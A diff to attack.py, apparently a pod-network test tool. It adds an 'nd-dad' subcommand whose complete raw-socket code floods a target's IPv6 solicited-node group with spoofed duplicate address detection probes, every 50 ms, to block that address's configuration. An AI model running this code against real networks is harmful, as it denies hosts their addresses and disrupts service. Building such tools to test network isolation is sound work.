@@ -44,6 +44,11 @@ Run inside a pod's network namespace (`ip netns exec POD-NS attack.py ...`).
       Send one datagram from each of N fresh sockets (N new connections), S seconds apart
       (default: as fast as it goes). Prints "ready" on stderr first.
 
+  attack.py nd-dad --iface IF --target IPV6 --seconds S
+      For S seconds, send IPv6 neighbour solicitations from :: for TARGET (duplicate address
+      detection probes) to its solicited-node group, every 50 ms. Prints "ready" on stderr
+      first.
+
   attack.py sniff --iface IF --from-mac MAC --timeout S [--ip-proto N [--dport P]]
       Put IF in promiscuous mode and count the frames with source MAC that arrive within S
       seconds (IPv4 of that protocol to that destination port only, when given); print the
@@ -243,6 +248,27 @@ def udp_burst(args):
             time.sleep(args.interval)
 
 
+def nd_dad(args):
+    """Neighbour solicitations from :: for TARGET (duplicate address detection probes): to a
+    node doing DAD for TARGET they say someone else holds it."""
+    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    s.bind((args.iface, 0))
+    mac = s.getsockname()[4]
+    target = socket.inet_pton(socket.AF_INET6, args.target)
+    group = socket.inet_pton(socket.AF_INET6, "ff02::1:ff00:0")[:13] + target[13:]
+    unspecified = bytes(16)
+    icmp = struct.pack("!BBHI", 135, 0, 0, 0) + target
+    pseudo = unspecified + group + struct.pack("!I3xB", len(icmp), 58)
+    icmp = icmp[:2] + struct.pack("!H", checksum(pseudo + icmp)) + icmp[4:]
+    ip6 = struct.pack("!IHBB", 6 << 28, len(icmp), 58, 255) + unspecified + group
+    frame = bytes([0x33, 0x33]) + group[12:] + mac + struct.pack("!H", 0x86DD) + ip6 + icmp
+    print("ready", file=sys.stderr, flush=True)
+    deadline = time.monotonic() + args.seconds
+    while time.monotonic() < deadline:
+        s.send(frame)
+        time.sleep(0.05)
+
+
 def wanted_ip(frame, proto, dport):
     if proto is None:
         return True
@@ -345,6 +371,11 @@ def main():
     c.add_argument("--count", type=int, required=True)
     c.add_argument("--interval", type=float, default=0.0)
     c.set_defaults(run=udp_burst)
+    c = sub.add_parser("nd-dad")
+    c.add_argument("--iface", required=True)
+    c.add_argument("--target", required=True)
+    c.add_argument("--seconds", type=float, required=True)
+    c.set_defaults(run=nd_dad)
     c = sub.add_parser("sniff")
     c.add_argument("--iface", required=True)
     c.add_argument("--from-mac", required=True)
